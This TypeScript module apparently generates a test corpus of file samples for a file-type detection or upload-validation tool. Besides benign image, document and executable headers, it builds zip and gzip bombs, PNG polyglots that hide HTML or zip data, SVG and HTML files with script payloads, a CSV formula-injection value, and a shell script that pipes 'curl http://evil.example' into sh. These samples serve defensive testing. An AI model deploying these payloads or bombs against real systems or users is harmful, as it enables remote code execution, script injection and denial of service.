/**
 * The proof corpus, generated in code so every byte is visible and nothing binary is committed.
 * Each builder makes a small but structurally real file of its type.
 */
import { crc32, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';

const ascii = (s: string) => Buffer.from(s, 'latin1');
const u32be = (n: number) => {
  const b = Buffer.alloc(4);
  b.writeUInt32BE(n >>> 0);
  return b;
};

function pngChunk(type: string, data: Buffer): Buffer {
  const t = ascii(type);
  return Buffer.concat([u32be(data.length), t, data, u32be(crc32(Buffer.concat([t, data])))]);
}

/** A valid 2x2 RGB PNG, with optional tEXt chunk in its head, or an animation control chunk (APNG). */
export function png(options: { text?: string; animated?: boolean } = {}): Buffer {
  const ihdr = Buffer.concat([u32be(2), u32be(2), Buffer.from([8, 2, 0, 0, 0])]);
  const raw = Buffer.from([0, 255, 0, 0, 0, 255, 0, 0, 0, 0, 255, 255, 255, 255]);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    ...(options.text ? [pngChunk('tEXt', ascii(`Comment\0${options.text}`))] : []),
    ...(options.animated ? [pngChunk('acTL', Buffer.concat([u32be(1), u32be(0)]))] : []),
    pngChunk('IDAT', deflateSync(raw)),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A baseline JFIF JPEG skeleton (SOI, APP0, DQT, SOF0, EOI). */
export function jpg(): Buffer {
  return Buffer.concat([
    Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]),
    ascii('JFIF\0'),
    Buffer.from([0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]),
    Buffer.from([0xff, 0xdb, 0x00, 0x43, 0x00]),
    Buffer.alloc(64, 1),
    Buffer.from([0xff, 0xc0, 0x00, 0x0b, 0x08, 0x00, 0x01, 0x00, 0x01, 0x01, 0x01, 0x11, 0x00]),
    Buffer.from([0xff, 0xd9]),
  ]);
}

/** A 1x1 GIF89a. */
export function gif(): Buffer {
  return Buffer.concat([
    ascii('GIF89a'),
    Buffer.from([
      1, 0, 1, 0, 0x80, 0, 0, 0, 0, 0, 255, 255, 255, 0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0, 0x3b,
    ]),
  ]);
}

/** A lossless WebP container (RIFF/WEBP/VP8L). */
export function webp(): Buffer {
  const vp8l = Buffer.from([
    0x2f, 0, 0, 0, 0, 0x07, 0, 0x10, 0x07, 0x10, 0x11, 0x11, 0x88, 0x88, 0xfe, 0x07, 0,
  ]);
  const chunk = Buffer.concat([ascii('VP8L'), Buffer.from([vp8l.length, 0, 0, 0]), vp8l]);
  const size = Buffer.alloc(4);
  size.writeUInt32LE(4 + chunk.length);
  return Buffer.concat([ascii('RIFF'), size, ascii('WEBP'), chunk]);
}

/** An AVIF head: an ISO-BMFF `ftyp` box with the `avif` brand, then an empty `meta` box. */
export function avif(): Buffer {
  const ftyp = Buffer.concat([u32be(28), ascii('ftypavif'), u32be(0), ascii('avifmif1miaf')]);
  return Buffer.concat([ftyp, u32be(12), ascii('meta'), u32be(0)]);
}

/** A one-page PDF. */
export function pdf(): Buffer {
  return ascii(
    '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n' +
      '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 10 10]>>endobj\n' +
      'trailer<</Root 1 0 R>>\n%%EOF\n',
  );
}

interface ZipEntry {
  name: string;
  data: Buffer;
  /** Deflate the data (else stored). */
  deflate?: boolean;
  /** Lie about the uncompressed size in the headers (zip bomb). */
  declaredSize?: number;
}

/** A zip archive with local headers, a central directory and an end record. */
export function zip(entries: ZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = ascii(e.name);
    const body = e.deflate ? deflateRawSync(e.data) : e.data;
    const size = e.declaredSize ?? e.data.length;
    const crc = crc32(e.data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(e.deflate ? 8 : 0, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(body.length, 18);
    local.writeUInt32LE(size >>> 0, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(e.deflate ? 8 : 0, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(body.length, 20);
    central.writeUInt32LE(size >>> 0, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, body);
    centrals.push(central, name);
    offset += 30 + name.length + body.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

/** A minimal Word document (OOXML): `[Content_Types].xml` first, as Word writes it. */
export function docx(): Buffer {
  return zip([
    {
      name: '[Content_Types].xml',
      data: ascii(
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
          '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
      ),
    },
    { name: 'word/document.xml', data: ascii('<w:document/>') },
  ]);
}

/** A plain zip with one text file. */
export function plainZip(): Buffer {
  return zip([{ name: 'readme.txt', data: ascii('hello') }]);
}

/** Zip bomb: 16 MiB of zeros deflated to a few KB, declaring 4 GiB - 1 uncompressed. */
export function zipBomb(): Buffer {
  return zip([
    { name: 'bomb.bin', data: Buffer.alloc(16 * 1024 * 1024), deflate: true, declaredSize: 0xffffffff },
  ]);
}

/** Gzip bomb: 16 MiB of zeros in a few dozen KB. */
export function gzipBomb(): Buffer {
  return gzipSync(Buffer.alloc(16 * 1024 * 1024), { level: 9 });
}

/** A 64-bit little-endian ELF header (what a Linux binary starts with). */
export function elf(): Buffer {
  const b = Buffer.alloc(128);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]).copy(b);
  b.writeUInt16LE(2, 16); // ET_EXEC
  b.writeUInt16LE(0x3e, 18); // x86-64
  return b;
}

/** A PE header: `MZ` DOS stub pointing at a `PE\0\0` signature (a Windows .exe). */
export function pe(): Buffer {
  const b = Buffer.alloc(256);
  ascii('MZ').copy(b);
  b.writeUInt32LE(0x80, 0x3c);
  ascii('PE\0\0').copy(b, 0x80);
  b.writeUInt16LE(0x14c, 0x84);
  return b;
}

/** A 64-bit Mach-O header. */
export function macho(): Buffer {
  const b = Buffer.alloc(64);
  Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0x00, 0x00, 0x01]).copy(b);
  return b;
}

/** A WebAssembly module header. */
export function wasm(): Buffer {
  return Buffer.from([0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00]);
}

export const shebang = (): Buffer => ascii('#!/bin/sh\ncurl http://evil.example | sh\n');

export const svgClean = (): Buffer =>
  ascii(
    '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10" fill="red"/></svg>',
  );
export const svgScript = (): Buffer =>
  ascii('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>');
export const svgOnload = (): Buffer =>
  ascii('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>');
export const html = (): Buffer => ascii('<!DOCTYPE html><html><body><script>alert(1)</script></body></html>');
export const csvClean = (): Buffer => ascii('name,amount\r\nalice,-12.5\r\nbob,+33\r\n"carol, jr",7\r\n');
export const csvFormula = (): Buffer => ascii('name,amount\nalice,=HYPERLINK("http://evil.example","x")\n');
export const text = (): Buffer => ascii('just some notes\nline two\n');

/** Polyglot: a valid PNG, then an HTML page after the sniffed head. */
export function pngWithHtmlTail(): Buffer {
  return Buffer.concat([png(), Buffer.alloc(5000), html()]);
}

/** Polyglot: a valid PNG with a zip appended (a "GIFAR"-style image + archive). */
export function pngWithZipTail(): Buffer {
  return Buffer.concat([png(), plainZip()]);
}

/** Polyglot: a PNG carrying an HTML page inside the sniffed head (a tEXt chunk). */
export function pngWithHtmlHead(): Buffer {
  return png({ text: '<html><script>alert(1)</script></html>' });
}
